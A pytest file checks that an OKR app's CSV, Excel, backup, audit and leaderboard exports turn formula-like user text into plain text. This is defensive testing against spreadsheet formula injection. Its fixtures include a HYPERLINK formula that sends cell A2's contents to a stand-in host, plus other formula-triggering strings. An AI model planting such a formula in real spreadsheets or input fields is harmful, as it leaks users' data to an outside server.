"""The files the app's downloads are made of, on SQLite and PostgreSQL, from an organisation
where someone named "@SUM(1+1)" owns an objective titled =HYPERLINK(…): every cell of user text
opens in a spreadsheet as text, never as a formula (tests/unit/test_downloads_guard.py proves
every download_button goes through core.files_out; the browser test follows the page CSVs)."""

from __future__ import annotations

import csv
import io
import zipfile

import pytest
from openpyxl import load_workbook

from components.recognition_view import board_csv
from core import files_out
from db import commands, exchange
from db.backup import backup
from db.commands import CheckInInput, KRInput, ObjectiveInput, kudos
from db.queries import audit, okrs, recognition
from tests.factories import PASSWORD, build_org, run

HYPERLINK = '=HYPERLINK("http://host/?"&A2,"x")'
NAME = "@SUM(1+1)"
NOTE = "-1+2 blocked by legal"
BOM = b"\xef\xbb\xbf"


@pytest.fixture
def org(sessions):
    return plant(build_org(sessions))


def plant(org):
    """build_org's organisation plus "hostile" (display name NAME) owning a published objective
    titled HYPERLINK with one KR, a check-in noted NOTE, and a kudos."""
    sessions = org.sessions
    person = run(
        sessions,
        commands.create_user,
        org.admin,
        commands.UserInput(
            "hostile", NAME, "hostile@example.com", "member", org.ids["product"], None, "en",
            PASSWORD,
        ),
    )  # fmt: skip
    actor = org.actor("hostile")
    objective = run(
        sessions,
        commands.create_objective,
        actor,
        ObjectiveInput(
            org.ids["cycle"],
            "individual",
            HYPERLINK,
            person,
            key_results=[KRInput(HYPERLINK + " signups", "increase", 0, 100)],
        ),
    )
    run(sessions, commands.set_objective_state, actor, objective, 1, "active")
    with sessions() as session:
        kr = int(okrs.krs_of_objectives(session, [objective]).iloc[0]["kr_id"])
    run(sessions, commands.check_in, actor, CheckInInput(kr, 40, 3, NOTE))  # off track
    run(sessions, kudos.give_kudos, org.actor("max"), "+1 for the launch", receiver_user_id=person)
    org.ids["hostile"] = person
    return org


def csv_cells(data: bytes) -> list[str]:
    assert data.startswith(BOM)  # UTF-8 with a BOM: Excel reads Vietnamese correctly
    return [cell for row in csv.reader(io.StringIO(data.decode("utf-8-sig"))) for cell in row]


def assert_no_live_formula(cells: list[str]) -> None:
    """No cell starts with a formula character, except numbers (-5 is a number, not text)."""

    def number(cell: str) -> bool:
        try:
            float(cell)
        except ValueError:
            return False
        return True

    live = [c for c in cells if c.startswith(tuple(files_out.FORMULA_TRIGGERS)) and not number(c)]
    assert live == []


def test_the_csv_export_writes_titles_names_and_notes_as_text(org):
    data = run(org.sessions, exchange.export_csv_zip, org.admin, org.ids["cycle"])
    archive = zipfile.ZipFile(io.BytesIO(data))
    files = {name: csv_cells(archive.read(name)) for name in archive.namelist()}
    for cells in files.values():
        assert_no_live_formula(cells)
    assert "'" + HYPERLINK in files["objectives.csv"]
    assert "'" + HYPERLINK in files["okrs.csv"]
    assert "'" + NAME in files["people.csv"]
    assert "'" + NOTE in files["check_ins.csv"]
    assert "'+1 for the launch" in files["kudos.csv"]


def assert_text_cells(book) -> None:
    """No formula cell; the planted text is there unchanged, marked as text."""
    cells = [cell for sheet in book for row in sheet.iter_rows() for cell in row]
    assert [c.coordinate for c in cells if c.data_type == "f"] == []
    hostile = [c for c in cells if c.value in (HYPERLINK, NAME, NOTE)]
    assert {c.value for c in hostile} == {HYPERLINK, NAME, NOTE}  # the text itself, unchanged
    # Excel's leading apostrophe: shown as text, and still text after someone edits the cell.
    assert all(c.data_type == "s" and c.quotePrefix for c in hostile)


def test_the_excel_export_has_no_formula_cell_and_marks_formula_like_text(org):
    data = run(org.sessions, exchange.export_xlsx, org.admin, None)
    assert_text_cells(load_workbook(io.BytesIO(data)))


def test_a_backup_has_no_formula_cell_and_marks_formula_like_text(org, engine, tmp_path):
    backup(engine, tmp_path / "backup.xlsx")
    assert_text_cells(load_workbook(tmp_path / "backup.xlsx"))


def test_the_audit_csv_writes_who_and_what_as_text(org):
    with org.sessions() as session:
        data = audit.audit_csv(session, org.admin, audit.AuditFilter(entity="objective"))
    cells = csv_cells(data)
    assert_no_live_formula(cells)
    assert "'" + NAME in cells  # who
    assert "'" + HYPERLINK in cells  # what


def test_the_leaderboard_csv_writes_names_as_text(org):
    with org.sessions() as session:
        cycle = okrs.cycle_row(session, org.ids["cycle"])
        board = recognition.leaderboard(session, cycle, recognition.as_of(cycle))
    data = board_csv(recognition.ranked(board.people, "kudos"), "kudos", True)
    cells = csv_cells(data)
    assert_no_live_formula(cells)
    assert "'" + NAME in cells
